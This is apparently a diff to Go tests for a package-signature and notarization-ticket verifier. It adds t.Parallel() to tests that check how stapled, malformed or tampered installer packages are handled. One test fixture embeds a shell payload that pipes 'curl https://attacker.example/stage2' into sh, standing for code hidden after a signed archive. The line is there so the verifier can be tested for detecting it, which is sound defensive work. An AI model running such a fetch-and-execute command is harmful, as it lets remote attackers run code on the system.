@@ -26,6 +26,7 @@ func stapledPkg(t *testing.T, ticket func(...[]byte) []byte) []byte {
 // parses, names the table of contents checksum, and is reported as
 // unverified; the signatures stay valid.
 func TestStapledPackage(t *testing.T) {
+	t.Parallel()
 	res := verifyBytes(t, stapledPkg(t, ticketfile.Ticket), machofile.SignTime)
 	if got := statuses(res); got != "apple-pkg:valid apple-pkg-cms:valid" || rules(res) != string(RuleNotarizationTicketUnverified) {
 		t.Fatalf("statuses %s, rules %s", got, rules(res))
@@ -39,6 +40,7 @@ func TestStapledPackage(t *testing.T) {
 // TestStapledPackageOtherTicket: a ticket for another package is a
 // warning and not bound.
 func TestStapledPackageOtherTicket(t *testing.T) {
+	t.Parallel()
 	res := verifyBytes(t, stapledPkg(t, func(...[]byte) []byte { return ticketfile.Ticket(bytes.Repeat([]byte{3}, 20)) }), machofile.SignTime)
 	if !strings.Contains(rules(res), string(RuleNotarizationTicketMismatch)) || res.Notarization.Bound() || res.Notarization.Status != signing.NotarizationStapledUnverified {
 		t.Errorf("rules %s notarization %+v", rules(res), res.Notarization)
@@ -49,6 +51,7 @@ func TestStapledPackageOtherTicket(t *testing.T) {
 // that do not reach a terminator, and bytes after the ticket trailer are
 // errors, and the signatures are not left valid by unowned bytes.
 func TestStapledPackageMalformed(t *testing.T) {
+	t.Parallel()
 	b, _ := pkgfile.Build(signedSpec(t))
 	tk := ticketfile.Ticket(bytes.Repeat([]byte{3}, 20))
 	for _, c := range []struct {
@@ -77,6 +80,7 @@ func TestStapledPackageMalformed(t *testing.T) {
 // header declares are a warning (pkg/notarization-ticket-layout); the
 // signatures stay valid.
 func TestStapledPackageTicketLayout(t *testing.T) {
+	t.Parallel()
 	b, _ := pkgfile.Build(signedSpec(t))
 	tk := ticketfile.Ticket(bytes.Repeat([]byte{3}, 20))
 	res := verifyBytes(t, append(bytes.Clone(b), ticketfile.Staple(append(bytes.Clone(tk), "stage2"...))...), machofile.SignTime)
@@ -90,6 +94,7 @@ func TestStapledPackageTicketLayout(t *testing.T) {
 
 // TestUnstapledPackage: no trailer, no ticket.
 func TestUnstapledPackage(t *testing.T) {
+	t.Parallel()
 	b, _ := pkgfile.Build(signedSpec(t))
 	if n := verifyBytes(t, b, machofile.SignTime).Notarization; n == nil || n.Status != signing.NotarizationNotStapled || len(n.CDHashes) != 1 {
 		t.Errorf("notarization %+v", n)
@@ -100,6 +105,7 @@ func TestUnstapledPackage(t *testing.T) {
 // trailers of unknown types, which makes their data a hiding place after
 // the signed archive: it is an error, and the signatures are invalid.
 func TestStapledPackagePayloadInUnknownTrailer(t *testing.T) {
+	t.Parallel()
 	b, _ := pkgfile.Build(signedSpec(t))
 	digest := verifyBytes(t, b, machofile.SignTime).Reader.TOCDigest()
 	payload := []byte("#!/bin/sh\ncurl https://attacker.example/stage2 | sh\n")
@@ -119,6 +125,7 @@ func TestStapledPackagePayloadInUnknownTrailer(t *testing.T) {
 // covers; non-zero ones are data hidden after the archive, reported as
 // the malformed tail they are, as in the terminator or the ticket trailer.
 func TestAttackTrailerReservedBytes(t *testing.T) {
+	t.Parallel()
 	b, _ := pkgfile.Build(signedSpec(t))
 	digest := verifyBytes(t, b, machofile.SignTime).Reader.TOCDigest()
 	tail := ticketfile.Staple(ticketfile.Ticket(digest[:20]))
